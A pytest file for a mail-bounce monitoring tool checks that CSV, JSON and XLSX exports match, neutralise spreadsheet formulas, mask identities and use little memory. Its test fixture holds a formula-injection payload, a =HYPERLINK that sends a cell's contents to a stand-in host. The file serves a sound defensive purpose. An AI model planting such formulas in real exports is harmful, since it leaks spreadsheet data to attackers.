"""Exports hold the same data in each format, and need little memory."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import timedelta
from importlib.util import find_spec
from pathlib import Path
from xml.etree import ElementTree

import pytest

from mailmon.mail.bounce.values import Kind, Original, Recipient
from mailmon.model.bounces import BounceFilter, BounceRow
from mailmon.render.bounces import masked_row
from mailmon.render.export import COLUMNS, WRITERS
from mailmon.store.bouncelog.log import BounceLog, Reader
from tests.store.bouncelog.samples import BOB, INBOX, NOON, RUN, seen

DOCS = Path(__file__).parents[2] / "docs" / "bounce-log.md"
xlsx = pytest.mark.skipif(not find_spec("xlsxwriter"), reason="XlsxWriter is not installed")
# `make soak` exports 100,000. What grows with the rows would take a kilobyte or more for each.
ROWS = int(os.environ.get("MAILMON_ROWS", "5000"))
# XlsxWriter alone takes some 12 MiB. Full runs (MAILMON_ROWS=100000) have a bound of 40 MiB.
MAX_GROWN_MIB = {5_000: {"xlsx": 16, "csv": 6, "json": 6}}.get(ROWS, dict.fromkeys(("xlsx", "csv", "json"), 40))
EVIL = '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")'
ORIGINAL = Original(EVIL, "-1, two\r\nlines", "@x", ("+a@example.org", "=b@example.org"), ())


@pytest.fixture
def rows(tmp_path: Path) -> list[BounceRow]:
    evil = Recipient(
        EVIL,
        "5.1.1",
        "failed",
        "userunknown",
        True,
        '"quoted", and\ttab \x1b[31m \ud800',
        "=1",
        "-1",
        "=ann@example.org",
    )
    with BounceLog(tmp_path / "state.json", NOON) as log:
        log.record(INBOX, 2, [seen(1, evil, original=ORIGINAL), seen(2, kind=Kind.FEEDBACK), seen(3, BOB)], RUN)
    with Reader(tmp_path / "state.json", NOON) as reader:
        return list(reader.rows(BounceFilter()))


def written(form: str, rows: list[BounceRow], scratch: Path) -> bytes:
    file = io.BytesIO()
    WRITERS[form](iter(rows), file, scratch)
    return file.getvalue()


def test_the_columns_are_those_that_are_documented() -> None:
    documented = re.findall(r"^\| `(\w+)` \|", DOCS.read_text().partition("## Columns")[2].partition("\n## ")[0], re.M)
    assert tuple(documented) == COLUMNS


def test_csv_has_a_header_and_a_line_for_each_recipient(rows: list[BounceRow], tmp_path: Path) -> None:
    raw = written("csv", rows, tmp_path)
    assert raw.count(b"\n") == raw.count(b"\r\n") == 4
    header, *lines = csv.reader(io.StringIO(raw.decode(), newline=""), strict=True)
    assert tuple(header) == COLUMNS
    first = dict(zip(header, lines[0], strict=True))
    assert first == {
        "id": "1", "received_at": "2026-03-01T11:00:00.000Z", "account": "main", "folder": "INBOX", "kind": "bounce",
        "address": f"'{EVIL}", "domain": "", "status": "5.1.1", "action": "failed", "reason": "userunknown",
        "hard": "true", "diagnostic": '"quoted", and\\ttab \\x1b[31m ?', "reporting_mta": "'=1", "remote_mta": "'-1",
        "original_message_id": f"'{EVIL}", "original_subject": "'-1, two\\r\\nlines", "original_from": "'@x",
        "original_to": "'+a@example.org; '=b@example.org", "original_cc": "", "original_recipient": "'=ann@example.org",
    }  # fmt: skip
    assert (lines[1][4:6], lines[1][10]) == (["feedback", ""], "")


def test_json_gives_the_words_as_they_were(rows: list[BounceRow], tmp_path: Path) -> None:
    document = json.loads(written("json", rows, tmp_path))
    assert list(document) == ["schema", "bounces"]
    assert document["schema"] == "mailmon/bounces/1"
    first = document["bounces"][0]
    assert tuple(first) == COLUMNS
    assert (first["address"], first["hard"], first["original_to"]) == (EVIL, True, list(ORIGINAL.to))
    assert json.loads(written("json", [], tmp_path)) == {"schema": "mailmon/bounces/1", "bounces": []}


def cells_of(raw: bytes) -> list[dict[str, tuple[str, str]]]:
    """Return the rows of the first sheet: column letter to type and text."""
    name = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert archive.testzip() is None
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert not list(sheet.iter(f"{name}f")), "no cell is a formula"
    assert not list(sheet.iter(f"{name}hyperlink"))
    found = []
    for row in sheet.iter(f"{name}row"):
        cells = {}
        for cell in row:
            letter = re.match(r"[A-Z]+", cell.attrib["r"])
            assert letter
            cells[letter[0]] = (cell.attrib.get("t", "n"), "".join(cell.itertext()))
        found.append(cells)
    return found


@xlsx
def test_xlsx_has_the_same_cells_and_no_formula(rows: list[BounceRow], tmp_path: Path) -> None:
    found = cells_of(written("xlsx", rows, tmp_path))
    lines = list(csv.reader(io.StringIO(written("csv", rows, tmp_path).decode(), newline="")))
    letters = "ABCDEFGHIJKLMNOPQRST"
    for cells, line in zip(found, lines, strict=True):
        shown = {letter: text for letter, text in zip(letters, line, strict=True) if text}
        shown = {letter: {"true": "1", "false": "0"}.get(text, text) for letter, text in shown.items()}
        assert {letter: text for letter, (_, text) in cells.items()} == shown
    assert (found[1]["A"][0], found[1]["K"][0], found[1]["F"][0]) == ("n", "b", "inlineStr")
    assert list(tmp_path.glob("*.tmp")) == []


@xlsx
def test_more_rows_than_a_sheet_takes_go_to_a_second_one(
    rows: list[BounceRow], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mailmon.render.export.ROWS_A_SHEET", 2)
    with zipfile.ZipFile(io.BytesIO(written("xlsx", rows, tmp_path))) as archive:
        assert {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} <= set(archive.namelist())


def test_masked_rows_say_nothing_of_whose_they_are(rows: list[BounceRow], tmp_path: Path) -> None:
    text = written("csv", list(map(masked_row, rows)), tmp_path).decode()
    assert not re.search(r"bob|example|HYPERLINK|boss|order|192\.0\.2\.1", text, re.IGNORECASE)


PROGRAM = """
import re, sys, time
from datetime import UTC, datetime
from pathlib import Path
from mailmon.model.bounces import BounceFilter
from mailmon.render.export import WRITERS
from mailmon.render.bounces import masked_row
from mailmon.store.bouncelog.log import Reader
state_file, form, mask = Path(sys.argv[1]), sys.argv[2], sys.argv[3] == "mask"
def peak_kib():  # ru_maxrss would be that of the process that started this one
    return int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
before = peak_kib()
began = time.perf_counter()
with Reader(state_file, datetime(2026, 3, 1, tzinfo=UTC)) as reader, open(state_file.with_name("out"), "w+b") as file:
    rows = reader.rows(BounceFilter())
    WRITERS[form](map(masked_row, rows) if mask else rows, file, state_file.parent)
print(peak_kib() - before, time.perf_counter() - began, before)
"""


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a state file with ROWS bounces beside it."""
    state_file = tmp_path_factory.mktemp("large") / "state.json"
    with BounceLog(state_file, NOON) as log:
        for begin in range(0, ROWS, 1000):
            batch = [seen(uid, BOB, age=timedelta(seconds=uid)) for uid in range(begin + 1, begin + 1001)]
            log.record(INBOX, begin + 1000, batch, RUN)
    return state_file


@pytest.mark.slow
@pytest.mark.parametrize(
    ("form", "mask"), [("csv", ""), ("csv", "mask"), ("json", ""), pytest.param("xlsx", "", marks=xlsx)]
)
def test_many_rows_are_exported_in_little_memory(large: Path, form: str, mask: str) -> None:
    command = [sys.executable, "-c", PROGRAM, str(large), form, mask]
    said = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
    grown_kib, took_s = int(said[0]), float(said[1])
    assert grown_kib < MAX_GROWN_MIB[form] * 1024, f"{form}: {grown_kib} KiB in {took_s:.1f} s"
    assert large.with_name("out").stat().st_size > 10 * ROWS
    print(form, mask, said)
